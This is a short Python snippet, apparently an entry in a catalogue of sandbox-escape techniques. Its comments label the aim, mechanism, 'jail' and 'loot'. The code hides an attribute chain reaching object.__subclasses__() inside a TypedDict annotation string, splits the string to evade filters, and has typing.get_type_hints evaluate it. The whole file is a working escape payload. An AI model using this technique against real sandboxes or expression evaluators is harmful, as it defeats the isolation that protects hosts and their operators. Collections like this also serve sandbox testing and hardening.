# aim: let typing evaluate the annotations of a typed dictionary
# mechanism: typing.TypedDict turns strings into forward references
# language: builtins
# reason: the library evaluates text unguarded
# jail: process
# plain: loot

import typing

Point = typing.TypedDict("Point", {"x": "().__class__.__base__.__subcl" + "asses__"})
loot(typing.get_type_hints(Point)["x"])
